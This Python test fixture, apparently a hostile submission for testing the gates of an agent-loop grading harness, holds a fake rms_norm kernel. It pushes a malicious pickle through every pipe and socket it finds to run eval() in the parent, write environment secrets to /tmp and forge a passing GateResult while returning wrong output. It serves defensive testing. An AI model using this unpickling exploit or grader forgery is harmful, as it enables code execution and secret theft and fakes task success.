"""Class 3, an attack on the parent through the result channel (code execution by unpickling).

Tries: on its first call, finds every socket / pipe among its file descriptors (/proc/self/fd) and
writes a length-prefixed pickle to each one, shaped like the worker's "done" message, whose
value unpickles by calling eval(): in the receiving process it writes
/tmp/agentloop-hostile-pipe_pickle_rce-parent (with any fake key of that process's environment)
and yields a passing GateResult. Then it returns a wrong result (x * weight).
Gates must report: CR005 or SB007 (a message that is not the fixed format is refused unread);
the marker must never exist and no key may leak.
"""

import os
import pickle
import struct

import torch

_EXPR = ("(open('/tmp/agentloop-hostile-pipe_pickle_rce-parent', 'w').write(' '.join("
         "v for v in __import__('os').environ.values() if 'hostile-test' in v) or 'ran in the parent'), "
         "__import__('gates.verdict', fromlist=['GateResult']).GateResult(gate='correctness', passed=True))[1]")


class _Evil:
    def __reduce__(self):
        return (eval, (_EXPR,))


def _channels():
    fds = []
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        try:
            if fd > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith(("socket:", "pipe:")):
                fds.append(fd)
        except OSError:
            continue
    return fds


_sent = []


def rms_norm(x, weight, eps):
    if not _sent:
        _sent.append(True)
        payload = pickle.dumps(("done", "ok", _Evil(), None, 0.01, False), protocol=2)
        for fd in _channels():
            try:
                os.write(fd, struct.pack("!i", len(payload)) + payload)
            except OSError:
                pass
    return (x.float() * weight.float()).to(x.dtype)
